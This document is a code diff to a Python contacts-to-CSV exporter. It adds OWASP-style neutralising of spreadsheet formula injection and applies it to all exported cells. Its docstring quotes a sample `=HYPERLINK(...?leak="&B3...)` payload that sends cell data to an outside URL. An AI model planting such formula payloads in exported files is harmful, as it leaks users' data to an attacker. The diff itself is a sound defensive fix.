@@ -2,6 +2,11 @@
 
 UTF-8 with a BOM so that Excel shows accents and non-Latin names correctly, and one
 row per person with several emails or phones joined by '; '.
+
+A spreadsheet runs a cell that starts with '=', '+', '-', '@', a tab or a carriage
+return as a formula — and names, organisations and notes come from imported cards,
+which anyone can write (`=HYPERLINK("http://…?leak="&B3, …)`). Such a cell gets a
+leading apostrophe, as OWASP recommends: the spreadsheet shows the text as it is.
 """
 
 from __future__ import annotations
@@ -21,6 +26,14 @@ COLUMNS = (
     "phones", "urls", "birthday", "tags", "circle", "cadence_days", "last_interaction", "health",
     "band", *COMPONENTS, "trust", "giving_balance", "classification", "fade_date", "how_met", "met_on", "notes",
 )
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(cell: str) -> str:
+    """The cell as text a spreadsheet will not evaluate (OWASP's CSV injection advice)."""
+    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell
 
 
 def _figure(value: float | None) -> str:
@@ -66,6 +79,6 @@ def write_csv(
     writer = csv.writer(buffer, lineterminator="\r\n")
     writer.writerow(COLUMNS)
     table = rows(contacts, health)
-    writer.writerows(table)
+    writer.writerows([neutralise(cell) for cell in row] for row in table)
     write_atomically(path, buffer.getvalue().encode("utf-8-sig"))
     return len(table)
